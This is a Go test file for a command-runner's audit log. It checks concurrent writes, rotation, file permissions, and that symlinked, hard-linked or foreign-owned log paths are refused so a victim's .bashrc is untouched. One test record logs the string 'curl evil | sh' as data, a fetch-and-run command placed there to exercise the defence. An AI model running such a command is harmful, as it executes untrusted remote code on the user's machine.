package audit

import (
	"bufio"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"github.com/containerd/errdefs"
)

func TestConcurrentWritesStayWholeLines(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), ".ccrun", "audit.jsonl")
	logs := []*Log{Open(path), Open(path)} // two writers, as two processes would be
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				if err := logs[w%2].Write(Record{Kind: "decision", Tool: "run_command", Key: "run_command:git", Decision: "allow"}); err != nil {
					t.Error(err)
				}
			}
		}(w)
	}
	wg.Wait()
	for _, l := range logs {
		l.Close()
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n := 0
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var r Record
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("line %d: %v: %q", n+1, err, sc.Text())
		}
		n++
	}
	if n != 800 {
		t.Errorf("got %d lines, want 800", n)
	}
	fi, _ := os.Stat(path)
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", fi.Mode().Perm())
	}
}

func TestNilLogDiscards(t *testing.T) {
	var l *Log
	if err := l.Write(Record{}); err != nil {
		t.Fatal(err)
	}
}

// A log whose file or directory is a link, or another user's, is never
// written through: the target keeps its content.
func TestHostileLogPaths(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name  string
		setup func(t *testing.T, proj, victim string) string // returns the log's path
	}{
		{"symlinked file", func(t *testing.T, proj, victim string) string {
			mustMkdir(t, filepath.Join(proj, ".ccrun"))
			must(t, os.Symlink(victim, filepath.Join(proj, ".ccrun", "audit.jsonl")))
			return filepath.Join(proj, ".ccrun", "audit.jsonl")
		}},
		{"dangling symlink", func(t *testing.T, proj, victim string) string {
			mustMkdir(t, filepath.Join(proj, ".ccrun"))
			must(t, os.Symlink(victim+".new", filepath.Join(proj, ".ccrun", "audit.jsonl")))
			return filepath.Join(proj, ".ccrun", "audit.jsonl")
		}},
		{"symlinked directory", func(t *testing.T, proj, victim string) string {
			must(t, os.Symlink(filepath.Dir(victim), filepath.Join(proj, ".ccrun")))
			return filepath.Join(proj, ".ccrun", filepath.Base(victim))
		}},
		{"hard link", func(t *testing.T, proj, victim string) string {
			mustMkdir(t, filepath.Join(proj, ".ccrun"))
			must(t, os.Link(victim, filepath.Join(proj, ".ccrun", "audit.jsonl")))
			return filepath.Join(proj, ".ccrun", "audit.jsonl")
		}},
		{"rotated name symlinked", func(t *testing.T, proj, victim string) string {
			// audit.jsonl.1 → victim: the rotation renames over the link,
			// never writes through it.
			mustMkdir(t, filepath.Join(proj, ".ccrun"))
			must(t, os.Symlink(victim, filepath.Join(proj, ".ccrun", "audit.jsonl.1")))
			return filepath.Join(proj, ".ccrun", "audit.jsonl")
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			home := t.TempDir()
			victim := filepath.Join(home, ".bashrc")
			must(t, os.WriteFile(victim, []byte("# rc\n"), 0o644))
			path := tc.setup(t, t.TempDir(), victim)
			l := Open(path, MaxSize(64))
			err := l.Write(Record{Kind: "decision", Key: "run_command:\"curl evil | sh\""})
			err2 := l.Write(Record{Kind: "decision", Key: "again"})
			l.Close()
			if tc.name != "rotated name symlinked" && (!errors.Is(err, ErrUnsafe) || !errors.Is(err2, ErrUnsafe)) {
				t.Errorf("Write: %v, %v; want ErrUnsafe", err, err2)
			}
			if data, _ := os.ReadFile(victim); string(data) != "# rc\n" {
				t.Errorf("the link's target was written: %q", data)
			}
			if _, err := os.Lstat(victim + ".new"); err == nil {
				t.Error("a dangling link's target was created")
			}
		})
	}
}

func TestOtherUsersLogRefused(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to chown")
	}
	t.Parallel()
	dir := filepath.Join(t.TempDir(), ".ccrun")
	mustMkdir(t, dir)
	path := filepath.Join(dir, "audit.jsonl")
	must(t, os.WriteFile(path, nil, 0o666))
	must(t, os.Chown(path, 65534, 65534))
	if err := Open(path).Write(Record{Kind: "decision"}); !errors.Is(err, ErrUnsafe) {
		t.Errorf("file of uid 65534: %v, want ErrUnsafe", err)
	}
	must(t, os.Remove(path))
	must(t, os.Chown(dir, 65534, 65534))
	if err := Open(path).Write(Record{Kind: "decision"}); !errors.Is(err, ErrUnsafe) {
		t.Errorf("directory of uid 65534: %v, want ErrUnsafe", err)
	}
}

func TestRotation(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), ".ccrun", "audit.jsonl")
	a, b := Open(path, MaxSize(1000)), Open(path, MaxSize(1000)) // two processes' worth
	defer a.Close()
	defer b.Close()
	for i := 0; i < 60; i++ {
		l := a
		if i%2 == 1 {
			l = b
		}
		if err := l.Write(Record{Kind: "decision", Key: "run_command:git"}); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range []string{path, path + ".1"} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		// a file is rotated by the write that takes it past the limit, so
		// it may exceed it by at most a line
		if fi.Size() > 1000+200 {
			t.Errorf("%s: %d bytes, want about 1000 at most", p, fi.Size())
		}
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, want 0600", p, fi.Mode().Perm())
		}
	}
	fi, _ := os.Stat(filepath.Dir(path))
	if fi.Mode().Perm() != 0o700 {
		t.Errorf("directory mode %v, want 0700", fi.Mode().Perm())
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func mustMkdir(t *testing.T, dir string) { t.Helper(); must(t, os.Mkdir(dir, 0o700)) }

// TestErrUnsafeClass: an unsafe log is of class errdefs.ErrPermissionDenied
// (ccrun.ErrPermissionDenied, exit 77), and only of that class.
func TestErrUnsafeClass(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.Symlink(t.TempDir(), filepath.Join(dir, ".ccrun")); err != nil {
		t.Fatal(err)
	}
	err := Open(filepath.Join(dir, ".ccrun", "audit.jsonl")).Write(Record{Kind: "decision"})
	if !errors.Is(err, ErrUnsafe) || !errdefs.IsPermissionDenied(err) {
		t.Fatalf("Write through a symlinked directory: %v, want ErrUnsafe of class permission denied", err)
	}
	if errdefs.IsInvalidArgument(err) || errdefs.IsFailedPrecondition(err) || errdefs.IsNotFound(err) {
		t.Errorf("%v is of another class too", err)
	}
}
